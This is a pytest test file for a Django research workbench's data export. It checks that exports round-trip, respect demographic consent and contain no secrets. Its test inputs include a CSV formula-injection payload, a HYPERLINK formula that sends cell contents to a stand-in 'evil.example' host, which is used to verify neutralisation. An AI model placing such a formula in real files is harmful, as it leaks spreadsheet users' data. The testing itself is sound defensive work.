"""Researcher exports: every table round-trips into pandas with the database's rows,
CSV neutralises formulas while JSON and Parquet keep text exact, and nothing secret
or unconsented leaves the workbench."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext

from tests.conftest import participant_client
from tests.factories import ParticipantFactory
from tests.judging.judging_fixtures import make_set
from workbench.cards.exports import (
    TABLE_NAMES,
    export_archive,
    workshop_tables,
)
from workbench.deliberation.models import (
    Participant,
    Principle,
    PrincipleVersion,
    Vote,
    VoteRecord,
    Workshop,
)
from workbench.deliberation.participant_session import cookie_name
from workbench.deliberation.services.analysis import analysis_refresh
from workbench.deliberation.services.principles import (
    principle_approve,
    principle_propose,
)
from workbench.deliberation.services.votes import vote_cast
from workbench.judging.models import HumanJudgment, Label, Verdict

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1",
    "@SUM(A1:A9)",
    "-2+3",
]


@pytest.fixture
def small(setup, owner, vote_round, propose_round):
    """Two groups, participants who propose formula-like principles, votes (one
    changed), consented and unconsented demographics, judgments and an analysis."""
    nurse = ParticipantFactory(
        group=setup.group_a,
        external_id="n-1",
        demographics_consent=True,
        demographics={"age": "34", "occupation": "=ward nurse"},
    )
    teacher = ParticipantFactory(group=setup.group_b, external_id="t-1")
    others = [
        ParticipantFactory(group=group)
        for group in (setup.group_a, setup.group_b, setup.group_a, setup.group_b)
    ]
    proposed = []
    for author, text in zip([nurse, teacher, *others], FORMULAS, strict=False):
        principle = principle_propose(
            participant=author, round_=propose_round, text=text
        )
        proposed.append(principle_approve(principle=principle, actor=owner))
    people = [nurse, teacher, *others]
    for i, person in enumerate(people):
        for j, principle in enumerate([*setup.seeds, *proposed]):
            vote_cast(
                participant=person,
                round_=vote_round,
                principle=principle,
                choice=[1, -1, 0][(i + j) % 3],
            )
    # A changed mind: history keeps both, the current vote only the last.
    vote_cast(participant=nurse, round_=vote_round, principle=setup.seeds[0], choice=-1)
    comparison_set = make_set(setup)
    for n, item in enumerate(comparison_set.items.all()):
        HumanJudgment.objects.create(
            item=item, participant=nurse, label=Label.A, reason=FORMULAS[n % 4]
        )
        HumanJudgment.objects.create(item=item, participant=teacher, label=Label.B)
    analysis_refresh(workshop=setup.workshop)
    return setup.workshop


def _export(workshop: Workshop, fmt: str, out: Path) -> Path:
    call_command("export_data", workshop.slug, "--format", fmt, "--out", str(out))
    return out


def _read(folder: Path, fmt: str) -> dict[str, pd.DataFrame]:
    if fmt == "parquet":
        return {n: pd.read_parquet(folder / f"{n}.parquet") for n in TABLE_NAMES}
    if fmt == "json":
        return {
            n: pd.DataFrame(json.loads((folder / f"{n}.json").read_text()))
            for n in TABLE_NAMES
        }
    # Every cell as the text written, so a test sees exactly what a spreadsheet does.
    return {
        n: pd.read_csv(folder / f"{n}.csv", dtype=str, keep_default_na=False)
        for n in TABLE_NAMES
    }


def _db_counts(workshop: Workshop) -> dict[str, int]:
    return {
        "participants": Participant.objects.filter(workshop=workshop).count(),
        "principles": Principle.objects.filter(workshop=workshop).count(),
        "principle_versions": PrincipleVersion.objects.filter(
            principle__workshop=workshop
        ).count(),
        "votes": Vote.objects.filter(principle__workshop=workshop).count(),
        "vote_history": VoteRecord.objects.filter(principle__workshop=workshop).count(),
        "human_judgments": HumanJudgment.objects.filter(
            item__comparison_set__workshop=workshop
        ).count(),
        "verdicts": Verdict.objects.filter(
            run__comparison_set__workshop=workshop
        ).count(),
    }


@pytest.mark.parametrize("fmt", ["parquet", "csv", "json"])
def test_every_format_round_trips_the_database_rows(small, tmp_path, fmt):
    tables = _read(_export(small, fmt, tmp_path / "out"), fmt)

    for name, count in _db_counts(small).items():
        assert len(tables[name]) == count, name
    votes = tables["votes"]
    db_votes = sorted(
        Vote.objects.filter(principle__workshop=small).values_list(
            "participant_id", "principle_id", "choice"
        )
    )
    exported = sorted(
        zip(
            votes["participant_id"].astype(int),
            votes["principle_id"].astype(int),
            votes["choice"].astype(int),
            strict=True,
        )
    )
    assert exported == db_votes
    # The changed vote: two records in the history, the last one current.
    assert len(tables["vote_history"]) == len(votes) + 1
    texts = dict(Principle.objects.filter(workshop=small).values_list("pk", "text"))
    principles = tables["principles"]
    for pk, text in zip(principles["id"].astype(int), principles["text"], strict=True):
        stored = texts[pk]
        if fmt == "csv" and stored.startswith(("=", "+", "-", "@")):
            stored = "'" + stored
        assert text == stored
    assert set(tables["groups"]["name"]) == {"Nurses", "Teachers"}


def test_parquet_keeps_dtypes_and_utc_timestamps(small, tmp_path):
    tables = _read(_export(small, "parquet", tmp_path / "out"), "parquet")
    live = workshop_tables(workshop=small)
    for name in TABLE_NAMES:
        pd.testing.assert_frame_equal(tables[name], live[name], check_like=False)
    cast_at = tables["votes"]["cast_at"]
    assert str(cast_at.dt.tz) == "UTC"
    assert tables["votes"]["choice"].dtype == "Int64"


def test_csv_timestamps_are_utc_iso(small, tmp_path):
    csv = _read(_export(small, "csv", tmp_path / "out"), "csv")
    first = csv["vote_history"]["cast_at"].iloc[0]
    stored = VoteRecord.objects.filter(principle__workshop=small).order_by("pk")[0]
    assert first.endswith("Z")
    assert pd.Timestamp(first) == pd.Timestamp(stored.cast_at)


def test_formulas_are_neutralised_in_csv_only(small, tmp_path):
    csv = _read(_export(small, "csv", tmp_path / "csv"), "csv")
    parquet = _read(_export(small, "parquet", tmp_path / "pq"), "parquet")
    jsn = _read(_export(small, "json", tmp_path / "json"), "json")

    for formula in FORMULAS:
        assert "'" + formula in set(csv["principles"]["text"])
        assert formula not in set(csv["principles"]["text"])
        assert "'" + formula in set(csv["principle_versions"]["text"])
        assert formula in set(parquet["principles"]["text"])
        assert formula in set(jsn["principles"]["text"])
    assert "'" + FORMULAS[0] in set(csv["human_judgments"]["reason"])
    assert FORMULAS[0] in set(parquet["human_judgments"]["reason"])
    # Demographic values a participant typed are text too.
    assert "'=ward nurse" in set(csv["participant_demographics"]["value"])
    assert "=ward nurse" in set(parquet["participant_demographics"]["value"])
    # Numbers stay numbers: a disagree vote is -1, not '-1.
    assert "-1" in set(csv["votes"]["choice"])
    assert not any(c.startswith("'") for c in csv["votes"]["choice"])
    # No text cell in any CSV file starts like a formula.
    dtypes = workshop_tables(workshop=small)
    for name, frame in csv.items():
        for column in frame:
            if dtypes[name][column].dtype != "string":
                continue
            starts = frame[column].str[:1]
            assert not starts.isin(["=", "+", "-", "@", "\t", "\r"]).any(), (
                name,
                column,
            )


def test_unconsented_demographics_never_appear(small, tmp_path):
    nurse = Participant.objects.get(workshop=small, external_id="n-1")
    teacher = Participant.objects.get(workshop=small, external_id="t-1")
    tables = workshop_tables(workshop=small)
    people = tables["participants"].set_index("external_id")
    assert json.loads(people.loc["n-1", "demographics"]) == nurse.demographics
    assert pd.isna(people.loc["t-1", "demographics"])
    demographics = tables["participant_demographics"]
    assert set(demographics["participant_id"]) == {nurse.pk}
    assert teacher.pk not in set(demographics["participant_id"])

    # Consent withdrawn: the service path clears demographics with the flag.
    Participant.objects.filter(pk=nurse.pk).update(
        demographics={}, demographics_consent=False
    )
    out = _export(small, "csv", tmp_path / "out")
    text = "\n".join(p.read_text() for p in out.rglob("*") if p.is_file())
    assert "ward nurse" not in text
    assert len(pd.read_csv(out / "participant_demographics.csv")) == 0


def test_no_secret_or_token_in_any_exported_file(small, tmp_path):
    participants = list(Participant.objects.filter(workshop=small))
    secrets = {g.invite_token for g in small.groups.all()}
    secrets |= {str(p.public_id) for p in participants}
    secrets |= {
        str(t)
        for t in VoteRecord.objects.filter(principle__workshop=small)
        .exclude(client_token=None)
        .values_list("client_token", flat=True)
    }
    for person in participants:
        cookie = participant_client(person).cookies[cookie_name(small)].value
        secrets.add(cookie)
    assert len(secrets) > len(participants)

    for fmt in ("csv", "json", "parquet"):
        out = _export(small, fmt, tmp_path / fmt)
        files = [p for p in out.rglob("*") if p.is_file()]
        assert any(p.parent.name == "polis" for p in files)
        for path in files:
            data = path.read_bytes()
            for secret in secrets:
                assert secret.encode() not in data, (path.name, secret)
        blob, _ = export_archive(workshop=small, fmt=fmt)
        with zipfile.ZipFile(io.BytesIO(blob)) as archive:
            for member in archive.namelist():
                data = archive.read(member)
                for secret in secrets:
                    assert secret.encode() not in data, (member, secret)


def test_query_count_does_not_grow_with_the_workshop(
    setup, owner, vote_round, django_assert_max_num_queries
):
    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            workshop_tables(workshop=setup.workshop)
        return len(captured)

    people = [ParticipantFactory(group=setup.group_a) for _ in range(2)]
    for person in people:
        vote_cast(
            participant=person, round_=vote_round, principle=setup.seeds[0], choice=1
        )
    analysis_refresh(workshop=setup.workshop)
    few = queries()
    more = [ParticipantFactory(group=g) for g in (setup.group_a, setup.group_b) * 10]
    for person in more:
        for seed in setup.seeds:
            vote_cast(participant=person, round_=vote_round, principle=seed, choice=-1)
    make_set(setup, items=5)
    analysis_refresh(workshop=setup.workshop)
    assert queries() == few
    with django_assert_max_num_queries(len(TABLE_NAMES) + 5):
        workshop_tables(workshop=setup.workshop)


def test_command_is_all_or_nothing(small, tmp_path, monkeypatch):
    def broken(**kwargs):
        raise OSError("disk full")

    monkeypatch.setattr("workbench.cards.exports.writers.polis_export", broken)
    with pytest.raises(OSError, match="disk full"):
        _export(small, "csv", tmp_path / "out")
    assert list(tmp_path.iterdir()) == []  # neither the folder nor a staging copy

    existing = tmp_path / "existing"
    existing.mkdir()
    (existing / "keep.txt").write_text("mine")
    monkeypatch.undo()
    with pytest.raises(CommandError, match="already exists"):
        _export(small, "csv", existing)
    assert [p.name for p in existing.iterdir()] == ["keep.txt"]


def test_command_selects_tables_and_refuses_unknown_ones(small, tmp_path):
    out = tmp_path / "out"
    call_command(
        "export_data",
        small.slug,
        "--format",
        "json",
        "--out",
        str(out),
        "--tables",
        "votes,principles",
    )
    assert sorted(p.name for p in out.iterdir()) == [
        "manifest.json",
        "principles.json",
        "votes.json",
    ]
    manifest = json.loads((out / "manifest.json").read_text())
    assert (
        manifest["tables"]["votes"]["rows"]
        == Vote.objects.filter(principle__workshop=small).count()
    )
    with pytest.raises(CommandError, match="Unknown tables: nope"):
        call_command(
            "export_data", small.slug, "--out", str(tmp_path / "x"), "--tables", "nope"
        )
    assert not (tmp_path / "x").exists()


def test_archive_holds_tables_manifest_and_polis_files(small):
    blob, name = export_archive(workshop=small, fmt="parquet")
    assert name.startswith("ai-values-data-parquet-") and name.endswith(".zip")
    folder = name.removesuffix(".zip")
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        names = set(archive.namelist())
        assert {f"{folder}/{t}.parquet" for t in TABLE_NAMES} <= names
        assert f"{folder}/manifest.json" in names
        assert f"{folder}/polis/comments.csv" in names
        votes = pd.read_parquet(io.BytesIO(archive.read(f"{folder}/votes.parquet")))
    assert len(votes) == Vote.objects.filter(principle__workshop=small).count()


def test_analysis_tables_match_the_stored_result(small):
    tables = workshop_tables(workshop=small)
    analysis = small.analyses.order_by("-computed_at", "-id").first()
    result = analysis.result
    groups = tables["analysis_participants"]
    assert len(groups) == len(result["participants"])
    by_external = dict(
        zip(groups["participant_external_id"], groups["opinion_group"], strict=True)
    )
    for external, group in result["participants"].items():
        assert (
            None if pd.isna(by_external[external]) else by_external[external]
        ) == group
    assert groups["participant_id"].notna().all()
    figures = tables["analysis_principles"].set_index("principle_id")
    for entry in result["principles"]:
        assert figures.loc[entry["id"], "agree"] == entry["agree"]
        assert figures.loc[entry["id"], "disagree"] == entry["disagree"]
    rules = tables["analysis_rules"]
    for rule, adopted in result["rules"].items():
        assert list(rules[rules["rule"] == rule]["external_id"]) == adopted


def test_docs_list_every_table_and_column():
    from workbench.cards.exports import TABLES

    docs = (Path(__file__).parents[2] / "docs" / "exports.md").read_text()
    sections = docs.split("\n### ")
    documented = {s.split("`")[1]: s for s in sections[1:]}
    assert list(documented) == [spec.name for spec in TABLES]
    for spec in TABLES:
        for column, _ in spec.columns:
            assert f"| `{column}` |" in documented[spec.name], (spec.name, column)
